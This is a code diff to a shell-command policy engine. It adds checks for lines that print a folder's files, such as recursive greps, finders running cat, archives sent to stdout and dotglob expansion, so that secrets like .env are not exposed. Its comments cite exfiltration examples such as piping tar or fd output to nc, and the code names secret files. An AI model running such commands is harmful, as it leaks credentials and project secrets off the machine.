@@ -25,7 +25,7 @@ from engine.policy.arguments import TYPED_ARGUMENTS
 from engine.policy.commands import command_name, shell_word
 from engine.policy.lexer import BUDGET as BUDGET_OF_CHECK
 from engine.policy.lexer import MAX_LENGTH, MAX_TOKENS, Budget, OverBudget, ShellSyntaxError
-from engine.policy.matchers import Matcher, first_operand, shape
+from engine.policy.matchers import Matcher, Shape, code_paths, first_operand, shape
 from engine.policy.model import ALLOW, ASK, DENY, CompiledPattern, CompiledPolicy, Match, Rule, Verdict
 from engine.policy.normalize import Readings, readings, suspicious
 from engine.policy.paths import (
@@ -494,12 +494,18 @@ def _names_engine_files(command: Command, engine_names: re.Pattern[str] | None, 
     return any(engine_names.search(target.lower()) for _, target in command.redirects)
 
 
+def _shaped(command: Command) -> Shape:
+    """``command``'s flags and positionals (matchers.shape), computed once per command."""
+    shaped: Shape | None = command.shape
+    if shaped is None:
+        shaped = command.shape = shape(command)
+    return shaped
+
+
 def _positional_classes(command: Command, classify: Callable[[str], frozenset[str]]) -> frozenset[str]:
     """Every class a positional of ``command`` is in, in any of its forms (a word judged in several
     forms is, as a set, their union): a matcher's `args` test can only hold for one of these."""
-    shaped = command.shape
-    if shaped is None:
-        shaped = command.shape = shape(command)
+    shaped = _shaped(command)
     return frozenset().union(*map(classify, shaped.positionals))
 
 
@@ -703,11 +709,16 @@ class Evaluator:
             commands = _through_tree_links(commands, view, unwalked)
         # A line that sends a tree reader's output or a recursive copy to another host: a folder word
         # holding a secret is of class secret_holder there (View._holds; the project_exfiltration rows).
-        view.holders = bool(commands) and _sends_away(commands, self.policy.programs.senders)
+        # A recursive search printing every file's text to the caller (`grep -r X .`) reads it to them too.
+        sends = bool(commands) and _sends_away(commands, self.policy.programs.senders)
+        view.printed_only = not sends and bool(commands) and _prints_trees(commands, text)
+        view.holders = sends or view.printed_only
         if view.holders:
             # a tree reader naming no folder reads the working one (`fd -X cat | nc h 80`): judged with it named;
             # a tree copied on the line is read where it came from (`cp -r . /tmp/c && tar c /tmp/c | nc h 80`)
-            commands = _copied_trees(_implicit_folders(commands))
+            commands = _copied_trees(_implicit_folders(_printed_folders(commands)))
+        if _DOT_GLOBS.search(text) is not None:
+            commands = _with_dot_names(commands)
         classify = view.classify
         regex_ok: dict[int, bool] = {}
         hits: list[tuple[int, Match]] = []
@@ -1569,9 +1580,372 @@ def _sends_away(commands: list[Command], table: Mapping[str, tuple[Send, ...]]) 
     return False
 
 
+# Recursive searches that print the lines of every file they read, by the options that make them read a
+# folder's hidden or ignored files (none: always; rg, ag and fd skip a `.env` unless told), and the options
+# that make them print names or counts instead (`grep -rl`, `rg -c`): a folder holding a secret searched so
+# prints the secret to the caller, the one a secret is kept from (View.holders: the project_exfiltration
+# rows ask for it).
+_TREE_PRINTERS: dict[str, tuple[frozenset[str], frozenset[str]]] = {
+    **dict.fromkeys(
+        ("grep", "egrep", "fgrep", "ugrep", "zgrep"),
+        (
+            frozenset({"r", "R", "recursive", "dereference-recursive"}),
+            frozenset({"l", "L", "c", "q", "files-with-matches", "files-without-match", "count", "quiet", "silent"}),
+        ),
+    ),
+    "rg": (
+        frozenset({"hidden", ".", "u", "unrestricted", "no-ignore", "no-ignore-vcs", "no-ignore-dot"}),
+        frozenset({"l", "c", "q", "files", "files-with-matches", "files-without-match", "count", "count-matches"})
+        | frozenset({"quiet", "type-list"}),
+    ),
+    "ag": (
+        frozenset({"hidden", "u", "unrestricted", "skip-vcs-ignores", "U", "all-text", "t"}),
+        frozenset({"l", "L", "c", "files-with-matches", "files-without-matches", "count", "list-file-types"}),
+    ),
+    "ack": (frozenset(), frozenset({"l", "L", "c", "f", "g", "files-with-matches", "files-without-matches", "count"})),
+    "pt": (
+        frozenset({"hidden", "U", "skip-vcs-ignores"}),
+        frozenset({"l", "L", "c", "files-with-matches", "files-without-matches", "count"}),
+    ),
+    # a recursive diff prints the lines of each file that differs, or is on one side only with -N
+    **dict.fromkeys(("diff", "gdiff", "colordiff"), (frozenset({"r", "recursive"}), frozenset({"q", "brief"}))),
+}
+_TREE_PRINTERS["ggrep"] = _TREE_PRINTERS["grep"]
+_TREE_PRINTERS["ug"] = (frozenset(), _TREE_PRINTERS["grep"][1])  # ugrep searching the working folder by default
+_TREE_PRINTERS["ack-grep"] = _TREE_PRINTERS["ack"]
+_GREPS = frozenset({"grep", "egrep", "fgrep", "ugrep", "zgrep", "ggrep", "ug"})
+# git's searches and diffs of files outside its index (`git grep --no-index X`, `git grep --untracked
+# --no-exclude-standard X`, `git diff --no-index empty .`), and the options that print names or counts
+_GIT_QUIET = frozenset({"l", "L", "c", "q", "files-with-matches", "files-without-match", "count", "quiet"})
+_GIT_QUIET |= frozenset({"stat", "numstat", "shortstat", "name-only", "name-status", "summary", "dirstat"})
+# Finders handing each file they find to a program (`find . -exec cat {} +`, `fd -H -X cat`, `find . | xargs
+# cat`): every one prints what it reads but these, which print names, sums or nothing of a file's text.
+_FINDERS = frozenset({"find", "gfind", "bfs", "fd", "fdfind"})
+_FINDER_RUNS = frozenset({"exec", "execdir", "ok", "okdir", "x", "X", "exec-batch"})
+_FD_HIDDEN = frozenset({"H", "hidden", "u", "unrestricted", "I", "no-ignore"})
+_NAME_ONLY = frozenset(
+    {"rm", "rmdir", "unlink", "chmod", "chown", "chgrp", "touch", "ls", "stat", "file", "wc", "du", "echo"}
+    | {"printf", "basename", "dirname", "realpath", "readlink", "test", "[", "true", "false", "mkdir", "mv", "cp"}
+    | {"md5sum", "sha1sum", "sha256sum", "sha512sum", "b2sum", "cksum", "shred", "git", "dos2unix", "sed"}
+)
+
+
+def _prints_trees(commands: list[Command], text: str) -> bool:
+    """Whether a stage of the line prints the text of every file of a folder it walks (to the caller,
+    or to a file it reads next): `grep -r X .`, `rg --hidden X .`, `ack X .`, `find . -exec
+    cat {} +`, `fd -H -X cat`, `find . -type f | xargs cat`. Set tests per command, no look at the disk."""
+    for command in commands:
+        name = command.name
+        if name in _TREE_PRINTERS:
+            walks, quiet = _TREE_PRINTERS[name]
+            shaped = _shaped(command)
+            present = shaped.short | shaped.long
+            if name in _GREPS and "recurse" in (shaped.option_values("d") + shaped.option_values("directories")):
+                present = present | {"r"}
+            if not present.isdisjoint(quiet) or (walks and present.isdisjoint(walks)):
+                continue
+            includes = shaped.option_values("include")
+            if includes and all(_SOURCE_NAMES.fullmatch(glob) for glob in includes):
+                continue  # `grep -r --include='*.py' X .`: no secret's name passes
+            if _reaches_caller(command, commands, text, 0):
+                return True
+        elif name == "git":
+            if _git_prints_files(command) and _reaches_caller(command, commands, text, 0):
+                return True
+        elif name in _FINDERS:
+            runs = _finder_runs(command)
+            runs = [run for run in runs if run not in _NAME_ONLY]
+            if runs and _finds_secrets(command) and _reaches_caller(command, commands, text, 0):
+                return True
+        elif command.code is not None and _walks_in_code(command.code) and _reaches_caller(command, commands, text, 0):
+            return True  # `python3 -c "[print(open(f).read()) for f in os.listdir('.')]"`
+        elif name in _ARCHIVERS and _archives_to(command) == "-" and _reaches_caller(command, commands, text, 0):
+            return True  # `tar c .`, `tar cf - . | strings`, `zip -r - . | cat`, `find . | cpio -o`
+        elif (
+            name not in _NAME_ONLY
+            and not command.fed_by.isdisjoint(_FINDERS)
+            and ("xargs" in command.via or "parallel" in command.via)
+            and any(c.name in command.fed_by and _finds_secrets(c) for c in commands if c.name in _FINDERS)
+            and _reaches_caller(command, commands, text, 0)
+        ):
+            return True  # `find . -type f | xargs cat`: each file found handed to a reader
+    return _prints_archive(commands, text)
+
+
+# Archivers, and the stages their output goes through unchanged or encoded (what the last prints is the
+# archive); the stages that keep it from the caller: extracting it to disk, counting or summing it.
+_ARCHIVERS = frozenset({"tar", "gtar", "bsdtar", "zip", "7z", "7za", "7zz", "cpio", "bsdcpio", "pax", "afio"})
+_COUNTERS = frozenset({"wc", "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum"})
+_OUTPUT_FILES = ("/dev/null", "/dev/std", "/dev/tty", "/dev/fd/", "/proc/self/fd/")
+# Commands of a compound fed by a pipe that read no input (`tar cf - . | (cd dst && tar xf -)`)
+_UNREAD_INPUT = frozenset({"cd", "pushd", "popd", ":", "true", "false", "export", "set", "unset", "local", "sleep"})
+_UNREAD_INPUT |= frozenset({"exit", "return", "shift", "mkdir", "echo", "printf", "test", "[", "umask", "trap"})
+
+
+def _archives_to(command: Command) -> str | None:
+    """Where an archiver writes the archive it creates: "-" for its output (`tar c .`, `tar cf - .`, `zip -r
+    - .`, `7z a -so x .`, `cpio -o`, `pax -w`), its file, or None when it creates none (`tar xf x.tar`)."""
+    name = command.name
+    shaped = _shaped(command)
+    flags = shaped.short | shaped.long
+    if name in ("tar", "gtar", "bsdtar", "pax"):
+        creates = ("w" in flags) if name == "pax" else not flags.isdisjoint({"c", "create"})
+        files = shaped.option_values("f")
+        if not creates:
+            return None
+        if not files or any(f == "-" or f.startswith(_OUTPUT_FILES[1:]) for f in files):
+            return "-"
+        return files[0]
+    if name == "zip":
+        words = [w for w in command.argv[1:] if w == "-" or not w.startswith("-")]
+        return words[0] if words else None
+    if name in ("7z", "7za", "7zz"):
+        return "-" if "so" in _plain_options(command.argv) else None
+    if name in ("cpio", "bsdcpio"):
+        if flags.isdisjoint({"o", "create"}):
+            return None
+        files = shaped.option_values("O") + shaped.option_values("F") + shaped.option_values("file")
+        return files[0] if files else "-"
+    if name == "afio":
+        return "-" if "o" in flags and "-" in command.argv else None
+    return None
+
+
+def _keeps_output(command: Command) -> bool:
+    """Whether ``command`` keeps what it reads from the caller: it extracts it to disk (`tar x`, `cpio -i`),
+    writes it to a file (`dd of=`, `gzip x.tar`), or counts or sums it."""
+    name = command.name
+    if name in _COUNTERS:
+        return True
+    if name == "dd":
+        return any(w.startswith("of=") for w in command.argv[1:])  # `dd if=x.tgz of=y.bin`: to a file
+    if name in COMPRESSORS:
+        # `gzip x.tar` writes x.tar.gz; `gzip -c`, `--stdout`, `zcat`-like `-dc` print
+        return _plain_options(command.argv).isdisjoint({"c", "stdout", "to-stdout"})
+    if name in ("tar", "gtar", "bsdtar", "cpio", "bsdcpio", "pax"):
+        shaped = _shaped(command)
+        flags = shaped.short | shaped.long
+        extracts = not flags.isdisjoint({"x", "extract", "get", "i", "p", "pass-through"}) or (
+            name == "pax" and "r" in flags
+        )
+        return extracts and flags.isdisjoint({"O", "to-stdout", "to-command", "t", "list"})
+    return False
+
+
+def _git_prints_files(command: Command) -> bool:
+    """Whether git searches or diffs files outside its index, which a `.env` is (`git grep --no-index X`)."""
+    shaped = _shaped(command)
+    verb = shaped.positionals[:1]
+    flags = shaped.short | shaped.long
+    if not flags.isdisjoint(_GIT_QUIET):
+        return False
+    if verb == ["grep"]:
+        return "no-index" in flags or {"untracked", "no-exclude-standard"} <= flags
+    return verb == ["diff"] and "no-index" in flags
+
+
+def _lists_names(command: Command) -> bool:
+    """Whether an archiver only lists an archive's names (`tar tf x.tar`, `unzip -l x.zip`, `7z l x.7z`)."""
+    name = command.name
+    if name not in _ARCHIVERS and name != "unzip":
+        return False
+    shaped = _shaped(command)
+    flags = shaped.short | shaped.long
+    if name == "unzip":
+        return not flags.isdisjoint({"l", "Z", "v", "t"}) and "p" not in flags and "c" not in flags
+    if name in ("7z", "7za", "7zz"):
+        return shaped.positionals[:1] == ["l"]
+    return not flags.isdisjoint({"t", "list"}) and flags.isdisjoint({"x", "extract", "get", "O", "to-stdout"})
+
+
+def _reaches_caller(command: Command, commands: list[Command], text: str, depth: int) -> bool:
+    """Whether what ``command`` prints reaches the caller: through the stages it feeds (`| base64`, `| tee
+    x`) unless one keeps it (`| tar x -C dst`, `| wc -c`) or the last writes it to a file (`> hits.txt`, `|
+    gzip > x.tgz`; a file a later call prints is the session's to remember: _sent_archives)."""
+    if _output_to_file(command, text):
+        return False
+    if any(command.name not in c.fed_by for c in commands if c.name == command.name and c is not command):
+        return True  # another stage of its name: which one feeds what is not known by name
+    readers = [c for c in commands if command.name in c.fed_by and c is not command and c.name not in _UNREAD_INPUT]
+    if not readers:
+        return True
+    if depth > 4:
+        return True
+    return any(
+        not _keeps_output(c) and not _lists_names(c) and _reaches_caller(c, commands, text, depth + 1) for c in readers
+    )
+
+
+def _output_to_file(command: Command, text: str) -> bool:
+    """Whether ``command``'s output is written to a file or discarded: a redirection of its output (`> x`,
+    `>> x`, `&> x`, `1> x`, `> /dev/null`) to no terminal or descriptor. The analyzer keeps no descriptor
+    (`2> x` reads as `> x`), so the line's text must show the redirection with no other descriptor's number."""
+    for op, target in command.redirects:
+        if op in (">", ">>", ">|", "&>", "&>>") and target and not target.startswith(_OUTPUT_FILES[1:]):
+            quoted = "[\"']?"
+            spelled = (
+                r"(?:^|[\s;|&(){}])1?(?:>>?|>\||&>>?)\s*" + quoted + re.escape(target) + quoted + r"(?=[\s;|&()]|$)"
+            )
+            if re.search(spelled, text) is not None:
+                return True
+    return False
+
+
+def _prints_archive(commands: list[Command], text: str) -> bool:
+    """Whether a stage prints an archive a tree reader of the line wrote (`tar cf x.tar . && tar xOf x.tar`,
+    `zip -qr x.zip . && unzip -p x.zip`; or one an earlier call wrote: _sent_archives made its writer)."""
+    written: set[str] = set()
+    for command in commands:
+        if command.name in _ARCHIVERS:
+            archive = _archives_to(command)
+            if archive is not None and archive != "-":
+                written.add(archive)
+    if not written:
+        return False
+    names = {posixpath.basename(w) for w in written} - {"", ".", ".."}
+    for command in commands:
+        if command.name in _NAME_ONLY or _keeps_output(command) or _lists_names(command):
+            continue
+        if command.name == "tee" and command.via[-1:] and command.via[-1] in _ARCHIVERS:
+            continue  # the archive's own write, as the analyzer reads it (`zip x.zip .` writes `tee x.zip`)
+        if command.name in _ARCHIVERS and _archives_to(command) is not None:
+            continue  # its writer
+        words = [file_operand(w) for w in command.argv[1:]] + [t for op, t in command.redirects if op == "<"]
+        if any(_names_written(w, written, names) for w in words) and _reaches_caller(command, commands, text, 0):
+            return True
+    return False
+
+
+# A name filter only source files pass (`-name '*.py'`, `--include=*.go`): no secret's name ends so (a `.env`,
+# a `.env.local`, `id_rsa`, `x.pem`, `credentials.json`); a config-like suffix may (`.env.yaml`).
+_SOURCE_NAMES = re.compile(
+    r"\*\.(?:py|pyi|js|mjs|cjs|ts|tsx|jsx|go|rs|java|kt|c|h|cc|cpp|hpp|cs|rb|php|swift|scala|lua|pl|sh|md|rst"
+    r"|html|css|scss|vue|svelte|sql|proto|ex|exs|erl|hs|ml|dart|r|m|mm|ipynb|tf|gradle|cmake)"
+)
+_FIND_EITHER = frozenset({"-o", "-or", "!", "-not", ","})
+
+
+def _finds_secrets(command: Command) -> bool:
+    """Whether a finder may hand a secret file to what it runs: not when a name test of an expression with
+    no alternative or negation passes source files only (`find . -name '*.py' -exec grep x {} +`); not for
+    fd without an option that makes it read hidden or ignored files (it skips a `.env`)."""
+    argv = command.argv
+    if command.name in ("fd", "fdfind"):
+        return not _FD_HIDDEN.isdisjoint(_plain_options(argv))
+    if not _FIND_EITHER.isdisjoint(argv):
+        return True
+    for i, word in enumerate(argv[:-1]):
+        if word in ("-name", "-iname") and _SOURCE_NAMES.fullmatch(argv[i + 1]):
+            return False
+    return True
+
+
+def _printed_folders(commands: list[Command]) -> list[Command]:
+    """The commands, and git's search of files outside its index given no folder (`git grep --no-index KEY`)
+    again with `.` named, and an inline program listing a folder and reading what it lists as the `find .
+    DIRS -type f -exec cat {} +` it is, for the rows that test the folders a search prints (the other
+    searches and finders: _implicit_folders)."""
+    out = commands
+    for command in commands:
+        if command.name == "git" and _git_prints_files(command) and _git_walks_cwd(command):
+            argv, dynamic = (*command.argv, "."), (*command.dynamic, False)  # `git grep --no-index X .`
+            out = [*out, _through_link(command, argv, "cwd", dynamic)]
+        elif command.name in _UNDESCRIBED_SEARCHES and not command.fed_by and len(_shaped(command).positionals) < 2:
+            argv = (command.argv[0], ".", *command.argv[1:])  # `ug KEY`: ugrep's alias searching the working folder
+            out = [*out, _through_link(command, argv, "cwd", (command.dynamic[0], False, *command.dynamic[1:]))]
+        elif command.code is not None and _walks_in_code(command.code):
+            folders = [p for p in code_paths(command.code) if p.rstrip("/").rsplit("/", 1)[-1][:1] != "-"][:8]
+            argv = ("find", ".", *folders, "-type", "f", "-exec", "cat", "{}", "+")
+            fields = (command.redirects, command.stdin, command.fed_by, (*command.via, command.name))
+            out = [*out, Command("find", argv, (False,) * len(argv), *fields, None, command.depth, command.cwd)]
+    return out
+
+
+# An inline program that lists a folder and reads the files it lists (`for f in os.listdir('.'): print(open(f)
+# .read())`, `fs.readdirSync('.')` with `readFileSync`, PHP's `glob()` with `file_get_contents`): it prints
+# a tree as `find DIR -type f -exec cat {} +` does, DIR the folders it names, or the working one.
+_CODE_LISTS = re.compile(
+    r"listdir|scandir|os\.walk|\bwalk\(|iterdir|r?glob\(|readdir|opendir|Dir\.(?:glob|entries|children|each_child|foreach)"
+    r"|Dir\[|File::Find|<\*>|read_dir|WalkDir|walkdir|readDir|Bun\.Glob"
+)
+_CODE_READS = re.compile(
+    r"open\(|read_text|read_bytes|readFile|file_get_contents|readfile|File\.read|IO\.read|slurp|fopen|read_to_string"
+    r"|readTextFile|Bun\.file|fs::read|File\.open|\bcat\b|copyfile|<\$\w+>|<F>|\bsend|fetch|urlopen"
+)
+
+
+def _walks_in_code(code: str) -> bool:
+    """Whether an inline program lists a folder and reads the files it lists."""
+    return _CODE_LISTS.search(code) is not None and _CODE_READS.search(code) is not None
+
+
+# Searches the Programs table does not describe (trees.IMPLICIT_FOLDER reads the described ones' words)
+_UNDESCRIBED_SEARCHES = frozenset({"ug", "ack-grep", "pt"})
+
+
+def _git_walks_cwd(command: Command) -> bool:
+    """Whether `git grep` names no path after its pattern (`-e P`/`-f F` patterns, or its first operand)."""
+    shaped = _shaped(command)
+    operands = shaped.positionals[1:]  # after `grep`
+    given = [v for option in ("e", "f") for v in shaped.option_values(option)]
+    if given:
+        return all(p in given for p in operands)
+    return len(operands) < 2
+
+
+# A line that makes a glob match names starting with a dot: bash's `shopt -s dotglob` (`bash -O dotglob`),
+# a GLOBIGNORE set (it turns dotglob on), zsh's `setopt globdots` / `*(D)`
+_DOT_GLOBS = re.compile(r"dotglob|GLOBIGNORE|globdots|\(D\)")
+_LEADING_GLOB = re.compile(r"(^|/)(?:\*|\?|\[[^]/]*\])")
+
+
+def _with_dot_names(commands: list[Command]) -> list[Command]:
+    """The commands, and each with a glob word again with each glob part that starts a name reading a leading
+    dot too (`cat *` after `shopt -s dotglob` reads `.env`: `cat .*`; `?env` reads `.env`)."""
+    out = commands
+    for command in commands:
+        words = command.argv[1:]
+        if not any(_LEADING_GLOB.search(word) for word in words):
+            continue
+        dotted = tuple(_LEADING_GLOB.sub(_dotted, word) for word in words)
+        out = [*out, _through_link(command, (command.argv[0], *dotted), "dotglob")]
+    return out
+
+
+def _dotted(match: re.Match[str]) -> str:
+    """A glob part starting a name, read with a leading dot: `*` as `.*`, `?` and `[…]` as `.`."""
+    return match.group(1) + (".*" if match.group(0).endswith("*") else ".")
+
+
+def _plain_options(argv: tuple[str, ...]) -> set[str]:
+    """The options of ``argv`` read letter by letter and whole, up to `--`."""
+    found: set[str] = set()
+    for word in argv[1:]:
+        if word == "--":
+            break
+        if word.startswith("--"):
+            found.add(word[2:].partition("=")[0])
+        elif word.startswith("-") and len(word) > 1:
+            found.update(word[1:])
+            found.add(word[1:])
+    return found
+
+
+def _finder_runs(command: Command) -> list[str]:
+    """The names of the programs a finder runs on what it finds (`-exec cat {} +`, `fd -X cat`)."""
+    argv = command.argv
+    runs: list[str] = []
+    for i, word in enumerate(argv[:-1]):
+        option = word.lstrip("-")
+        if word.startswith("-") and (option in _FINDER_RUNS or option.partition("=")[0] in _FINDER_RUNS):
+            program = word.partition("=")[2] if "=" in word else argv[i + 1]
+            runs.append(command_name(program) if program else "")
+    return runs
+
+
 def _sent_archives(commands: list[Command], session: SessionView, programs: ProgramTable) -> list[Command]:
-    """The commands, and for each file a network sender reads that an earlier call of the session wrote
-    with a tree reader (`tar czf /tmp/x.tgz .`, then `curl -T /tmp/x.tgz URL`: SessionFiles.archives),
+    """The commands, and for each file a network sender (or a reader) reads that an earlier call of the
+    session wrote with a tree reader (`tar czf /tmp/x.tgz .`, then `curl -T /tmp/x.tgz URL`: SessionFiles.archives),
     that reader again, writing the file from the words it read: the line is judged as `tar czf x.tgz
     . && curl -T x.tgz URL` is (_sends_away: a sender given a tree reader's file).
 
@@ -1585,12 +1959,14 @@ def _sent_archives(commands: list[Command], session: SessionView, programs: Prog
         for c in commands
         if c.name in _NETWORK_SENDERS or (c.code is not None and _NETWORK_CODE.search(c.code) is not None)
     ]
-    if not senders:
-        return commands
     out = commands
     handed = False  # a file is sent by no word of a sender's: the senders are fed by its reader
     for command in commands:
         sender = any(command is c for c in senders)
+        if not senders and (
+            command.name in _NAME_ONLY or (command.name in _ARCHIVERS and _archives_to(command) is not None)
+        ):
+            continue  # (a reader printing it: `tar xOf /tmp/x.tar`, `unzip -p x.zip`; _prints_trees)
         cwd = command.cwd or ""
         words = [w for arg in command.argv[1:] for w in (file_operand(arg), arg.partition("=")[2]) if w]
         words += [target for op, target in command.redirects if op in ("<", "<>")]
@@ -1600,7 +1976,7 @@ def _sent_archives(commands: list[Command], session: SessionView, programs: Prog
                 continue
             sources = session.archive_sources(posixpath.join(cwd, word))
             if sources:
-                found.append((word if sender else "-", sources))
+                found.append((word if sender or not senders else "-", sources))
         if sender and (
             any(d and _PATH_OR_OUTPUT.search(w) for w, d in zip(command.argv[1:], command.dynamic[1:], strict=False))
             or any("{}" in w for w in command.argv[1:])
